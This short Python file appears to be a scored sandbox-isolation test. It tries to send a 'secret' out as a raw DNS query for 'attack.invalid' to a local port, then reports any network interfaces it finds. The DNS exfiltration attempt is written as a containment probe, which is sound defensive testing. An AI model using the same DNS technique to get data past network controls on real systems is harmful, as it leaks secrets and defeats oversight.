"""Sends a secret out as a question of DNS, which needs no connection.

Deserves: 5.
Guard: a network namespace of its own, with nothing in it.
"""

import socket

question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06attack\x07invalid\x00\x00\x01\x00\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
    try:
        wire.sendto(question, ("127.0.0.1", PORT))
    except OSError:
        pass
if len(os.listdir("/sys/class/net")) > 1 if os.path.isdir("/sys/class/net") else False:
    report("network interfaces " + " ".join(os.listdir("/sys/class/net")))
